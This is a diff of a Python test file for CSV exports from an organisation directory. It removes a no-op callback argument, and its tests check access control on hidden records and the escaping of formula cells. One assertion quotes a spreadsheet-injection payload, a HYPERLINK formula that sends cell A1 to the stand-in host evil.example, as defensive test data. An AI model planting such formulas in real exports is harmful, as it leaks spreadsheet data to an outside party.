@@ -20,10 +20,6 @@ from tests.helpers import csv_bytes, load, org, service
 pytestmark = pytest.mark.anyio
 
 
-def quiet(_: str) -> None:
-    return None
-
-
 def rows(path: Path) -> list[dict[str, str]]:
     with path.open(encoding="utf-8") as f:
         lines = list(csv.reader(f))
@@ -42,7 +38,7 @@ async def snapshot(store: Store) -> tuple[list[object], list[object], list[objec
 async def test_a_full_csv_export_imports_back_to_the_same_directory(store: Store, tmp_path: Path) -> None:
     await demo.load(store)
     before = await snapshot(store)
-    counts = await exports.export_csv(store, STEWARD, tmp_path, quiet)
+    counts = await exports.export_csv(store, STEWARD, tmp_path)
     assert counts == {"organisations": 60, "services": 74, "links": 34}
     await store.graph.write(WIPE)
     inputs = [importer.Parsed(name, *hxl.read((tmp_path / name).read_bytes(), name))
@@ -53,7 +49,7 @@ async def test_a_full_csv_export_imports_back_to_the_same_directory(store: Store
 
 async def test_a_public_csv_export_holds_no_hidden_record_link_or_funding(store: Store, tmp_path: Path) -> None:
     await demo.load(store)
-    await exports.export_csv(store, ANONYMOUS, tmp_path, quiet)
+    await exports.export_csv(store, ANONYMOUS, tmp_path)
     text = "".join((tmp_path / f"{k}.csv").read_text() for k in ("organisations", "services", "links"))
     for hidden in ("Casa Respiro", "Harbour House", "Sierra Legal", "Quiet Harbour", "signal:", "Core support",
                    "Legal aid fund", "6.98"):
@@ -66,7 +62,7 @@ async def test_a_public_csv_export_holds_no_hidden_record_link_or_funding(store:
 
 async def test_a_member_sees_its_own_funding_but_not_other_restricted_grants(store: Store, tmp_path: Path) -> None:
     await demo.load(store)
-    await exports.export_csv(store, Viewer("member", "test:fict-lakeside-rights"), tmp_path, quiet)
+    await exports.export_csv(store, Viewer("member", "test:fict-lakeside-rights"), tmp_path)
     funds = {lk["#rel+purpose"] for lk in rows(tmp_path / "links.csv") if lk["#rel+type"] == "FUNDS"}
     assert funds == {"Security equipment", "Core support"}  # its own restricted grant, and the public one
 
@@ -75,7 +71,7 @@ async def test_a_link_to_a_hidden_organisation_stays_hidden_even_from_its_other_
                                                                                    tmp_path: Path) -> None:
     await demo.load(store)
     # The Legal aid fund comes from a restricted donor: showing the grant would show the donor.
-    await exports.export_csv(store, Viewer("member", "test:fict-kampala-legal"), tmp_path, quiet)
+    await exports.export_csv(store, Viewer("member", "test:fict-kampala-legal"), tmp_path)
     funds = {lk["#rel+purpose"] for lk in rows(tmp_path / "links.csv") if lk["#rel+type"] == "FUNDS"}
     assert "Legal aid fund" not in funds and "Quiet Harbour" not in (tmp_path / "organisations.csv").read_text()
 
@@ -139,7 +135,7 @@ async def test_formula_cells_are_written_as_text_and_read_back_as_they_were(stor
     before = await snapshot(store)
     stored = {o["name"] for o in before[0]}  # type: ignore[index]
     assert {s + 'HYPERLINK("https://evil.example/?x="&A1,"Click")' for s in STARTS} <= stored  # stored as given
-    await exports.export_csv(store, STEWARD, tmp_path, quiet)
+    await exports.export_csv(store, STEWARD, tmp_path)
     cells = 0
     for kind in ("organisations", "services", "links"):
         with (tmp_path / f"{kind}.csv").open(encoding="utf-8", newline="") as f:
